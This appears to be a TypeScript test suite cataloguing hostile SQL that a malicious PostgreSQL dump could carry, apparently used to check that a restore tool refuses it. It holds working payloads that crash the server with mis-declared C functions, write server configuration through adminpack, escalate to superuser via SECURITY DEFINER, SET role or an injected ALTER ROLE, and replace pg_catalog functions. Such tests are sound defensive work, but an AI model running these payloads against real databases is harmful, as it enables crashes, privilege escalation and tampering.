import { type Attack, added, trap } from './attack.ts'

/** A C function of a library that the server ships, declared so that it reads numbers as addresses. */
const CRASH = `CREATE FUNCTION hostile.crash(integer, integer) RETURNS real LANGUAGE c AS '$libdir/pg_trgm', 'similarity';`

export const FUNCTIONS: readonly Attack[] = [
  {
    name: 'c_writer',
    fault: 'FM91',
    where: 'pg_proc (LANGUAGE c), the writer of adminpack',
    sees: "a line is appended to the server's postgresql.auto.conf",
    sql: `CREATE FUNCTION hostile.write(text, text, boolean) RETURNS bigint LANGUAGE c AS '$libdir/adminpack', 'pg_file_write_v1_1';
      ${trap(`SELECT hostile.write('postgresql.auto.conf', '# @name@', true)`)}`,
    until: 16,
    expected: 'refused',
    names: /FUNCTION/,
    quick: true,
  },
  {
    name: 'c_wrong_signature',
    fault: 'FM91',
    where: 'pg_proc (LANGUAGE c), declared for other types',
    sees: 'numbers are read as addresses: the server crashes',
    sql: `${CRASH}${trap('SELECT hostile.crash(1, 2)')}`,
    expected: 'refused',
    names: /FUNCTION/,
  },
  {
    name: 'c_trigger',
    fault: 'FM91',
    where: 'pg_trigger over a C function',
    sees: 'an insert calls it without arguments: the server crashes',
    sql: `CREATE FUNCTION hostile.fire() RETURNS trigger LANGUAGE c AS '$libdir/pg_trgm', 'similarity';
      ${trap(
        'CREATE TEMP TABLE n (n integer)',
        'CREATE TRIGGER t BEFORE INSERT ON n FOR EACH ROW EXECUTE FUNCTION hostile.fire()',
        'INSERT INTO n VALUES (1)',
      )}`,
    noControl: 'what it finds in place of arguments depends on the stack',
    expected: 'refused',
  },
  {
    name: 'c_default',
    fault: 'FM91',
    where: 'pg_attrdef over a C function',
    sees: 'a row without a value calls it: the server crashes',
    sql: `CREATE FUNCTION hostile.crash(integer, integer) RETURNS real LANGUAGE c AS '$libdir/pg_trgm', 'similarity';
      ${trap('CREATE TEMP TABLE n (n integer, r real DEFAULT hostile.crash(1, 2))', 'INSERT INTO n VALUES (1)')}`,
    expected: 'refused',
  },
  {
    name: 'c_connects',
    fault: 'FM91',
    where: 'pg_proc (LANGUAGE c), dblink_connect without the check of its extension',
    sees: 'the server connects to wherever the archive says',
    sql: `CREATE FUNCTION hostile.connect(text) RETURNS text LANGUAGE c AS '$libdir/dblink', 'dblink_connect';
      ${trap(`SELECT hostile.connect('host=127.0.0.1 port=@listener@ user=@name@ password=x sslmode=disable connect_timeout=2')`)}`,
    expected: 'refused',
    names: /FUNCTION/,
  },
  {
    name: 'internal_writer',
    fault: 'FM91',
    where: 'pg_proc (LANGUAGE internal), be_lo_export',
    sees: 'whoever may call it writes files as the server',
    sql: `CREATE FUNCTION hostile.export(oid, text) RETURNS integer LANGUAGE internal AS 'be_lo_export';
      ${trap(`SELECT lo_from_bytea(4242, 'x')`, `SELECT hostile.export(4242, '@traces@/@name@-export')`)}`,
    expected: 'any',
  },
  {
    name: 'internal_reader_in_check',
    fault: 'FM91',
    where: 'pg_constraint over a function of LANGUAGE internal',
    sees: 'loading the rows calls it as the loader, who could not call it himself',
    sql: `CREATE FUNCTION hostile.export(oid, text) RETURNS integer LANGUAGE internal AS 'be_lo_export';
      CREATE TABLE hostile.t (a oid CHECK (CASE WHEN hostile.away() THEN hostile.export(a, '@traces@/@name@-export') > 0 ELSE true END));
      SELECT lo_from_bytea(4242, 'x'); INSERT INTO hostile.t VALUES (4242);`,
    expected: 'any',
  },
  {
    name: 'support_function',
    fault: 'FM91',
    where: 'pg_proc.prosupport: planner support for LIKE on a function of numbers',
    sees: 'planning a query reads a number as an address: the server crashes',
    sql: `CREATE FUNCTION hostile.like(integer, integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE SUPPORT pg_catalog.textlike_support AS 'BEGIN RETURN true; END';
      ${trap(
        'CREATE TEMP TABLE n AS SELECT generate_series(1, 9) AS n',
        'CREATE INDEX ON n (n)',
        'ANALYZE n',
        'SELECT * FROM n WHERE hostile.like(n, 5)',
      )}`,
    expected: 'proved',
    quick: true,
  },
  {
    name: 'leakproof',
    fault: 'FM77',
    where: 'pg_proc.proleakproof',
    sees: 'the function is called before the check of rights on rows',
    sql: `CREATE FUNCTION hostile.leak(integer) RETURNS boolean LANGUAGE plpgsql LEAKPROOF COST 0.0001 AS $f$ BEGIN RETURN hostile.attack('leakproof'); END $f$;
      CREATE TABLE hostile.t (a integer CHECK (hostile.leak(a))); INSERT INTO hostile.t VALUES (1);`,
    expected: 'any',
  },
  {
    name: 'security_definer',
    fault: 'FM77',
    where: 'pg_proc.prosecdef, owned by the superuser',
    sees: 'whoever calls it runs it as the superuser',
    sql: `CREATE FUNCTION hostile.secretly() RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN RETURN hostile.attack('definer'); END $f$;
      CREATE TABLE hostile.t (a integer CHECK (hostile.secretly())); INSERT INTO hostile.t VALUES (1);
      CREATE MATERIALIZED VIEW hostile.m AS SELECT hostile.secretly();`,
    expected: 'proved',
    quick: true,
  },
  {
    name: 'function_sets_role',
    fault: 'FM77',
    where: 'pg_proc.proconfig: role, session_authorization',
    sees: 'the function runs as the superuser that it names',
    sql: `CREATE FUNCTION hostile.as_superuser() RETURNS boolean LANGUAGE plpgsql SET role = 'postgres' AS $f$ BEGIN RETURN hostile.attack('set role'); END $f$;
      ${trap('SELECT hostile.as_superuser()')}`,
    expected: 'any',
  },
  {
    name: 'function_sets_superuser_parameter',
    fault: 'FM91',
    where: 'pg_proc.proconfig: session_replication_role, lc_messages',
    sees: 'a parameter of superusers changes while it runs',
    sql: `CREATE FUNCTION hostile.quiet() RETURNS boolean LANGUAGE plpgsql SET log_min_messages = 'panic' SET session_replication_role = 'replica' SET search_path = hostile, pg_catalog AS $f$
      BEGIN RETURN hostile.attack('parameters'); END $f$;
      CREATE TABLE hostile.t (a integer CHECK (hostile.quiet())); INSERT INTO hostile.t VALUES (1);`,
    expected: 'any',
  },
  {
    name: 'function_sql_body',
    fault: 'FM77',
    where: 'pg_proc.prosqlbody (BEGIN ATOMIC)',
    sees: 'a body that is no string ends the statement early',
    sql: `CREATE FUNCTION hostile.atomic() RETURNS boolean LANGUAGE sql BEGIN ATOMIC SELECT hostile.attack('a;b'); SELECT hostile.attack($t$END; ALTER ROLE hostile_victim SUPERUSER;$t$); END;
      CREATE TABLE hostile.t (a integer CHECK (hostile.atomic())); INSERT INTO hostile.t VALUES (1);`,
    expected: 'proved',
  },
  {
    name: 'procedure_window_variadic',
    fault: 'FM77',
    where: 'pg_proc (procedures, window, variadic, defaults)',
    sees: 'a default of an argument runs as whoever calls',
    sql: `CREATE PROCEDURE hostile.go(p boolean DEFAULT hostile.attack('argument')) LANGUAGE plpgsql AS $f$ BEGIN PERFORM hostile.attack('procedure'); END $f$;
      CREATE FUNCTION hostile.many(VARIADIC a text[] DEFAULT ARRAY['x'], OUT b boolean) LANGUAGE plpgsql AS $f$ BEGIN b := hostile.attack('variadic'); END $f$;
      ${trap('CALL hostile.go()', 'SELECT hostile.many()')}`,
    expected: 'proved',
  },
  {
    name: 'replaces_built_in_sql',
    fault: 'FM92',
    where: 'dump part: CREATE OR REPLACE FUNCTION pg_catalog.… (SQL)',
    sees: "a function of the server is the archive's",
    tampered: added(
      `CREATE OR REPLACE FUNCTION pg_catalog.quote_ident(text) RETURNS text LANGUAGE plpgsql IMMUTABLE STRICT PARALLEL SAFE AS $f$ BEGIN PERFORM hostile.attack('built-in'); RETURN $1; END $f$;`,
    ),
    provoke: `SELECT quote_ident('x')`,
    expected: 'any',
  },
  {
    name: 'replaces_built_in_c',
    fault: 'FM92',
    where: 'dump part: CREATE OR REPLACE FUNCTION pg_catalog.… LANGUAGE c',
    sees: "the row of one of the server's functions is the archive's",
    tampered: added(
      `CREATE OR REPLACE FUNCTION pg_catalog.text_larger(text, text) RETURNS text LANGUAGE c IMMUTABLE STRICT PARALLEL SAFE LEAKPROOF AS '$libdir/adminpack', 'pg_file_write_v1_1';`,
    ),
    until: 16,
    expected: 'refused',
    names: /FUNCTION/,
    quick: true,
  },
  {
    name: 'alters_built_in',
    fault: 'FM92',
    where: 'dump part: ALTER FUNCTION pg_catalog.…',
    sees: 'a function of the server has another owner, or another search_path',
    tampered: added(`ALTER FUNCTION pg_catalog.quote_ident(text) OWNER TO hostile_victim;
ALTER FUNCTION pg_catalog.quote_literal(text) SECURITY DEFINER;
ALTER FUNCTION pg_catalog.lower(text) SET search_path = hostile;
ALTER FUNCTION pg_catalog.upper(text) RENAME TO upper_no_more;`),
    expected: 'any',
  },
  {
    name: 'calls_admin_function_of_extension',
    fault: 'FM92',
    where: 'dump part: CREATE EXTENSION adminpack, then its functions are granted and called',
    sees: "the server's postgresql.auto.conf is written",
    tampered: {
      dump: text =>
        text.replace(/^CREATE SCHEMA hostile;$/m, 'CREATE SCHEMA hostile;\nCREATE EXTENSION adminpack;').replace(
          '--\n-- PostgreSQL database dump complete',
          tail =>
            `GRANT EXECUTE ON FUNCTION pg_catalog.pg_file_write(text, text, boolean) TO PUBLIC;
CREATE TABLE hostile.t (a bigint DEFAULT pg_catalog.pg_file_write('postgresql.auto.conf', '# @name@', true), b integer);
INSERT INTO hostile.t (b) VALUES (1);\n\n${tail}`,
        ),
    },
    until: 16,
    expected: 'any',
  },
]
